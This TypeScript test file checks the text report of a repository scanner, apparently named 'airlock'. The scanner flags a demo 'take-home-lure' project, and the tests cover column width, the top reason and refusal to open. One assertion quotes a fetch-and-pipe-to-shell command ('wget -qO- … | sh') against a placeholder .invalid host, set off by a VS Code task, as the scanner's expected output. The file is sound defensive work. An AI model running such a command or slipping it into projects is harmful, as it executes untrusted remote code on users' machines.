/** The text report says why first, and reads at 80 columns with long values cut in the middle. */
import assert from 'node:assert/strict';
import { fileURLToPath } from 'node:url';
import { describe, it } from 'node:test';
import { renderText } from '../../src/reporters/text.ts';
import { cutMiddle } from '../../src/reporters/terminal-safe.ts';
import { runAirlock } from '../helpers/cli.ts';
import { hostileReport } from './hostile-report.ts';

const LURE = fileURLToPath(new URL('../../examples/take-home-lure', import.meta.url));

describe('text report', () => {
  it('cuts long values in the middle, keeping both ends', () => {
    assert.equal(cutMiddle('node /very/long/path/to/the/payload.js', 20), 'node /very…ayload.js');
    assert.equal(cutMiddle('short', 20), 'short');
    assert.equal(cutMiddle('abcdef', 5), 'ab…ef');
  });

  it('fits 80 columns on the demo lure, cutting the middle of commands and keeping the host', async () => {
    const r = await runAirlock(['scan', '--fail-on', 'never', '--verbose', LURE]);
    const long = r.stdout.split('\n').filter(l => Array.from(l).length > 80);
    assert.deepEqual(long, []);
    assert.match(r.stdout, /^ {13}wget -qO- https:\/\/vscode-settings…e\.invalid\/api\/settings\/linux \| sh$/m);
    assert.match(r.stdout, /^ {2}open {7}vscode-task eslint-check {2,}\.vscode\/tasks\.json:9$/m);
  });

  it('names the top reason and, for block, what to do if it already ran, in its first lines', async () => {
    const r = await runAirlock(['scan', '--fail-on', 'never', LURE]);
    const head = (r.stdout.split('\n\n')[0] ?? '').replace(/\n {4}/g, ' ');
    assert.match(head, /^BLOCK {2}\S*take-home-lure\n/);
    assert.match(head, /\n {2}Top reason: .+\((?:assets|autorun|code)\/[a-z-]+, [^)]+:\d+\)\n/);
    assert.match(
      head,
      /\n {2}Already opened, installed or ran it\? Run `airlock hunt` now and follow docs\/workstation\.md \("I think I opened a malicious repository"\)\.$/,
    );
  });

  it('a review names its top reason and nothing about hunting', () => {
    const report = hostileReport();
    report.verdict = 'review';
    const f = report.findings[0];
    if (f) {
      f.severity = 'high';
      f.message = 'It does one risky thing. And more.';
    }
    const out = renderText(report, { color: false });
    assert.match(out.replace(/\n {4}/g, ' '), /\n {2}Top reason: It does one risky thing\. \(code\/remote-code-execution, src\//);
    assert.doesNotMatch(out, /airlock hunt/);
  });

  it('open prints the verdict and why, not the whole report, before refusing', async () => {
    const r = await runAirlock(['open', LURE, '--editor', '/bin/true']);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /^BLOCK /);
    assert.match(r.stdout, /Top reason: /);
    assert.match(r.stdout, /The full report: `airlock scan \S+take-home-lure`\.\n$/);
    assert.doesNotMatch(r.stdout, /What runs, and when|Findings \(/);
    assert.ok(r.stdout.split('\n').length < 15, r.stdout);
    assert.match(r.stderr, /refused: the verdict is BLOCK/);
  });
});
